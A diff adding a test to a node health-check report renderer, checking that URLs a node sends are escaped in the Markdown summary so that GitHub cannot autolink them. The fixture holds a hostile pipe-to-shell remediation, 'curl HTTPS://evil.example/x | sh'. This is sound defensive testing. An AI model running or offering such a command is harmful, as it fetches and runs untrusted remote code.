@@ -111,6 +111,20 @@ def test_markdown_summary_table() -> None:
     assert 'MTU 1400 on "eth0" \\| below 9000<br>second line' in md  # pipes and newlines cannot break the table
 
 
+def test_markdown_never_makes_a_link_of_a_url_a_node_sent() -> None:
+    """GitHub renders the step summary with cmark-gfm, whose autolink extension turns a bare
+    https://… or www.… in text into a link: a node could put a clickable "fix" of its choosing in
+    CI. Escaped as ``https\\://`` and ``www\\.`` the text shows the same and links nowhere (checked
+    against cmark-gfm); a remediation line is no exception."""
+    bad = C("gpu.model", "fail", "driver broken: get the fix at https://evil.example/fix.sh or www.evil.example",
+            remediation="curl HTTPS://evil.example/x | sh")
+    report = sample()
+    nodes = [report.nodes[0].model_copy(update={"checks": [*report.nodes[0].checks, bad]}), *report.nodes[1:]]
+    md = markdown.render(report.model_copy(update={"nodes": nodes}))
+    assert "https\\://evil.example/fix.sh" in md and "www\\.evil.example" in md
+    assert re.search(r"(?i)https?://|www\.", md) is None, "a bare URL GitHub would autolink"
+
+
 def test_console_names_verdict_and_remediation() -> None:
     con = Console(width=200, record=True)
     console.render(sample(), con)
